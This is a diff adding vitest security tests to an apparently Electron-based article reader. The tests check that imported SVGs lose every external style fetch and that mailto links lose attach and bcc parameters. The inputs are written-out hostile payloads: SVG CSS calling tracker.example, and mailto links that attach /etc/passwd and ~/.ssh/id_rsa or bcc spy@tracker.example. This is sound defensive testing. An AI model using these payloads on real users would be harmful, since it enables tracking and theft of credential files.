@@ -1,11 +1,15 @@
 // Every hostile payload, sanitized by the importers' pass, must leave nothing that can run or
 // reach the network. (The reader's own pass is checked in Chromium by the e2e tests.)
 import { readFileSync } from 'node:fs';
+import { readdir, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { JSDOM } from 'jsdom';
 import { describe, expect, it } from 'vitest';
+import { importFile } from '../../electron/core/import/import-file';
 import { sanitizeArticleHtml } from '../../electron/core/sanitize/sanitizer';
+import { isExternalWebUrl } from '../../electron/core/security/trusted-sender';
 import { fixturesDir } from './support/paths';
+import { tempDir } from './support/temp-dir';
 
 const vectors: { title?: string; payload: string }[] = JSON.parse(
   readFileSync(join(fixturesDir, 'xss', 'dompurify-vectors.json'), 'utf8'),
@@ -161,5 +165,68 @@ describe('stored SVG images', () => {
     );
     expect(clean).toContain('<circle r="4"');
     expect(clean).not.toMatch(/script|onload|tracker\.example/u);
+  });
+});
+
+describe('stored SVG images: styles that reach out', () => {
+  const TRACKER = /tracker\.example/u;
+  const svg = (inner: string) => `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" viewBox="0 0 40 40">${inner}</svg>`;
+
+  it('an SVG saved with a page keeps its colours, gradients and fonts, and loses every style that would fetch something when the file is opened', async () => {
+    const dir = await tempDir();
+    const drawing = svg(`<defs><linearGradient id="sea"><stop offset="0" stop-color="#036"/><stop offset="1" stop-color="#69c"/></linearGradient></defs>
+<style>@import url("https://tracker.example/a.css");
+@import "https://tracker.example/b.css";
+@font-face { font-family: Spy; src: url(https://tracker.example/f.woff) }
+.wave { fill: url(#sea); stroke: #036 }
+.boat { fill: url(https://tracker.example/p.svg#x); stroke: #900 }
+.sky { background: image-set("https://tracker.example/s.png" 1x) }
+.sun { fill: \\75 rl(https://tracker.example/u.svg#y) }
+.moon { --glow: url(https://tracker.example/v.png); fill: #ffd }
+.label { font-family: 'DejaVu Sans', sans-serif }</style>
+<rect class="wave" width="40" height="20"/>
+<circle r="5" cx="10" cy="10" style="fill:url('https://tracker.example/q.svg#x');stroke:url(#sea);stroke-width:2"/>
+<circle r="5" cx="20" cy="10" style="cursor:url(https://tracker.example/c.cur), auto; fill: #c00"/>
+<rect width="10" height="10" fill="url(https://tracker.example/r.svg#x)" stroke="url(#sea)"/>
+<rect width="10" height="10" mask="url(https://tracker.example/m.svg#m)" filter="url(https://tracker.example/f.svg#f)" clip-path="url(#sea)"/>
+<path d="M0 0L10 10" marker-end="url(https://tracker.example/k.svg#k)"/>
+<text class="label" x="2" y="38">Harbour</text>`);
+    await writeFile(join(dir, 'drawing.svg'), drawing);
+    await writeFile(join(dir, 'page.html'), `<!DOCTYPE html><title>The harbour</title><article><h1>The harbour</h1><p>${'The harbour wall was rebuilt stone by stone over three summers. '.repeat(6)}</p><figure><img src="drawing.svg" alt="A drawing"><figcaption>The harbour, drawn.</figcaption></figure></article>`);
+    const dataDir = await tempDir();
+    const article = await importFile(join(dir, 'page.html'), { dataDir });
+    expect(article.images).toMatchObject({ saved: 1, missed: 0 });
+    const [stored = ''] = await readdir(join(dataDir, 'assets'));
+    const kept = readFileSync(join(dataDir, 'assets', stored), 'utf8');
+    expect(kept).not.toMatch(TRACKER);
+    expect(kept).not.toMatch(/@import|@font-face/u);
+    // What draws stays: the gradient it names inside itself, its colours, its font.
+    expect(kept).toContain('url(#sea)');
+    expect(kept).toMatch(/stroke:\s*#900/u);
+    expect(kept).toMatch(/fill:\s*#ffd/u);
+    expect(kept).toMatch(/fill:\s*#c00/u);
+    expect(kept).toMatch(/stroke-width:\s*2/u);
+    expect(kept).toMatch(/DejaVu Sans/u);
+    expect(kept).toContain('stroke="url(#sea)"');
+    expect(kept).toContain('clip-path="url(#sea)"');
+  });
+});
+
+describe('mailto links', () => {
+  it('keep the address, subject, body and cc, and lose an attachment, a hidden copy or anything else a mail program could act on', () => {
+    const clean = sanitizeArticleHtml(
+      '<p><a href="mailto:desk@harbour-post.example?subject=The%20wall&body=I%20saw%20it&attach=/etc/passwd&Attachment=%7E/.ssh/id_rsa&bcc=spy@tracker.example&cc=editor@harbour-post.example&x-unknown=1">Write to us</a></p>',
+    );
+    const href = new JSDOM(clean).window.document.querySelector('a')?.getAttribute('href');
+    expect(href).toBe('mailto:desk@harbour-post.example?subject=The%20wall&body=I%20saw%20it&cc=editor@harbour-post.example');
+    expect(new JSDOM(sanitizeArticleHtml('<a href="MAILTO:desk@harbour-post.example?ATTACH=/etc/passwd">x</a>')).window.document.querySelector('a')?.getAttribute('href')).toBe(
+      'MAILTO:desk@harbour-post.example',
+    );
+  });
+
+  it('a mail link with an attachment is never handed to the system', () => {
+    expect(isExternalWebUrl('mailto:desk@harbour-post.example?subject=Hi')).toBe(true);
+    expect(isExternalWebUrl('mailto:desk@harbour-post.example?subject=Hi&attach=/etc/passwd')).toBe(false);
+    expect(isExternalWebUrl('mailto:?bcc=spy@tracker.example')).toBe(false);
   });
 });
